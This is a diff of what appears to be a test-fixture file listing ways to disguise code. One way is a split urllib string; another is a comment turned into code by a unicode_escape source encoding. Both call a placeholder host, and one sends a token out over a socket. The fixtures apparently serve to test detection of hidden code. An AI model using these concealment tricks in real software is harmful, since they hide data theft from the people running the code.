@@ -46,7 +46,8 @@ CODE = "from urll" "ib.request import urlop" "en\nurlop" "en('http:" "//@HOST@/@
 def report():
     pass
 """),
-    Spelling("source-encoding", "a comment that is code in the encoding that the file says", r"""# coding: unicode_escape
+    Spelling("source-encoding", "a comment that is code in the file's own encoding", r"""
+# coding: unicode_escape
 # Sends the report. \x0a\x69mport socket\x0apeer = \x73ocket.create_connection(('@HOST@', 80))
 # \x0apeer.sendall(b'GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n'); print(peer.recv(1000))
 """),
